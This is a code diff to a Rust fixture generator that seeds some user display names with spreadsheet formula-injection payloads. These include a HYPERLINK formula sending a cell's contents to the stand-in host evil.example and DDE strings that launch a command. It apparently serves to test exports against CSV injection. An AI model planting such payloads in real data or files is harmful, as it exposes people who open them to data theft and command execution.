@@ -333,6 +333,16 @@ fn assign_time(seed: u64, idx: u64, role: u32, created_ms: i64) -> i64 {
     created_ms + rng.below(YEAR_MS) as i64
 }
 
+/// Display names starting with what spreadsheets treat as a formula (OWASP's CSV injection list).
+const FORMULA_NAMES: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "+1 555 0100 (call me)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTab Leading",
+    "\r=1+1",
+];
+
 fn build_user(seed: u64, idx: u64, connections: &[Connection]) -> Value {
     let base = UserBase::new(seed, idx);
     let mut rng = base.rng.clone();
@@ -360,6 +370,9 @@ fn build_user(seed: u64, idx: u64, connections: &[Connection]) -> Value {
     }
     let full = format!("{first} {last}");
     let name = match (rng.below(4), &email) {
+        // Names a spreadsheet would run as formulas: real tenants hold them (sign-up forms take
+        // anything). Chosen by index, so the rest of the user's values do not shift.
+        _ if idx % 23 == 7 => FORMULA_NAMES[(idx / 23) as usize % FORMULA_NAMES.len()].to_owned(),
         (0, Some(e)) => e.clone(),
         _ => full,
     };
